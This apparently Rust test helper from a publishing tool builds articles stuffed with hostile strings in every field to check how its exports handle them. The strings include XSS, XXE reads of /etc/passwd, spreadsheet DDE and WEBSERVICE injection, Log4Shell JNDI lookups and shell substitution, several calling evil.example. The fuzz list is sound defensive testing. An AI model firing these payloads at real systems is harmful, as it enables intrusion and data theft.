//! Texts that somebody might try, and an article that says one everywhere.

use std::io::{Cursor, Read};

use super::{Builder, KIM};
use stet_core::view::{ArticleView, BlockKind, ConflictView, Tag};

/// What is tried, by what it is tried on.
pub const HOSTILE: &[&str] = &[
    // Web pages.
    "<script src=//evil.example/x></script>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<iframe srcdoc='<script>x</script>'>",
    "<object data=x><embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<form action=//evil.example><button>",
    "<a href=\"vbscript:x\" ping=//evil.example>",
    "<template><slot>",
    "</script><script>alert(1)//",
    "<!--[if IE]><script>x</script><![endif]-->",
    "<?php system('id'); ?>",
    "<%= 7*7 %>",
    "`-alert(1)-`",
    "@import url(//evil.example)",
    "expression(alert(1))",
    "&#x3c;script&#x3e;",
    "&NotAnEntity; &amp;amp;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "blob:https://evil.example/1",
    "about:blank",
    "view-source:https://evil.example",
    "https://evil.example\\@good.example",
    "https://good.example\u{2044}evil.example/",
    "https://[::1]/",
    // XML.
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<?xml version=\"1.1\"?>",
    "<![CDATA[ x ]]>",
    "<xi:include href=\"x\"/>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c cmd</w:instrText>",
    "</t></is></c><c><f>1+1</f></c>",
    // Spreadsheets.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "\u{ff1d}1+1",
    "a\",\"=1+1",
    "a\"\n=1+1,\"b",
    "a;=1+1",
    "a\tb\t=1+1",
    "''=1",
    "1e999",
    "00123",
    "2026-02-30",
    "_x0041_ _x000D_",
    "'; DROP TABLE x; --",
    // Word processors.
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{ INCLUDEPICTURE \"https://evil.example/x\" }",
    "{ HYPERLINK \"javascript:x\" }",
    "{ MACROBUTTON x y }",
    "{\\rtf1 {\\object\\objemb}}",
    "{\\*\\generator x}",
    "\\\\evil.example\\share",
    // Typesetting.
    "#import \"x.typ\": *",
    "#eval(\"1+1\")",
    "#read(\"/etc/passwd\")",
    "#image(\"x.png\")",
    "#link(\"javascript:x\")[x]",
    "#set text(size: 90pt)",
    "#{ while true {} }",
    "$ sum_(k=0)^n k $",
    "*bold* _emph_ `raw` <label> @ref",
    "= Heading\n== Sub\n- list\n+ one\n/ term: x",
    "// comment /* and */",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "\\def\\x{\\x}\\x",
    "%PDF-1.7 endstream endobj",
    ") Tj /JS (app.alert(1)) (",
    ">> /Launch << /F (x)",
    // Programs and templates.
    "${jndi:ldap://evil.example/x}",
    "$(id) `id` ; id | id && id",
    "%n%n%s%s %x {0} {x}",
    "{{constructor.constructor('x')()}}",
    "#{7*7} *{7*7} @{7*7}",
    "!!python/object/apply:os.system [id]",
    "key: value\n- &a [*a, *a]",
    "{\"a\": {\"__proto__\": 1}}",
    "\"],\"x\":[\"",
    "../../../etc/passwd",
    "CON.txt NUL AUX",
    "\u{1b}]0;title\u{7}\u{1b}[2J",
    "\u{9b}31m",
    "From: x\r\nBcc: evil@evil.example\r\n\r\n",
    // Letters.
    "\u{202e}\u{2066}fdp.exe\u{2069}",
    "\u{61c}\u{200f}\u{200e}",
    "\u{e0001}\u{e0061}\u{e007f}",
    "\u{301}\u{301}\u{301}",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
    "\u{fdd0}\u{fffe}\u{10ffff}",
    "\u{fffd}\u{fff9}a\u{fffa}b\u{fffb}",
    "👩🏽\u{200d}❤\u{fe0f}\u{200d}💋\u{200d}👨🏿",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "ﷺ ﷽ 𒐫",
    "مرحبا abc שלום",
    "日本語 한국어 ไทย ខ្មែរ",
    "İıſßŉǰΐẞﬀ",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1f}",
    "\u{85}\u{2028}\u{2029}",
    "\u{ad}\u{34f}\u{115f}\u{3164}\u{ffa0}",
    "\u{200d}\u{200c}\u{2060}\u{feff}",
    "\u{3000}\u{2003}\u{a0} \u{202f}",
];

/// An article that says `text` wherever somebody can write.
pub fn everywhere(text: &str) -> ArticleView {
    let mut b = Builder::new(text);
    b.view.authors = vec![text.into()];
    b.view.publisher = text.into();
    b.view.url = text.into();
    b.block(BlockKind::Headline, &[("H1", text)])
        .block(BlockKind::Paragraph, &[("1", text), ("2", "It fell.")]);
    let tag = b.tag("1", (text, "4f1c09ae77d2b631"), Tag::Disputed, text);
    (tag.correction, tag.speaker) = (format!("{text}!"), text.into());
    b.tag("2", KIM, Tag::AttributedOnly, text).speaker = text.into();
    b.source("1", "a", text, text, text, text).source(
        "2",
        "b",
        "Two",
        "https://two.example/x",
        text,
        text,
    );
    b.sentence("1").publish = true;
    b.sentence("2").conflicts = vec![ConflictView {
        field: "speaker".into(),
        values: vec![text.into(), "x".into()],
    }];
    b.done()
}

/// The files of a package.
pub fn files(package: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    (0..zip.len())
        .map(|n| {
            let mut file = zip.by_index(n).unwrap();
            let mut content = Vec::new();
            file.read_to_end(&mut content).unwrap();
            (
                String::from_utf8_lossy(file.name_raw()).into_owned(),
                content,
            )
        })
        .collect()
}
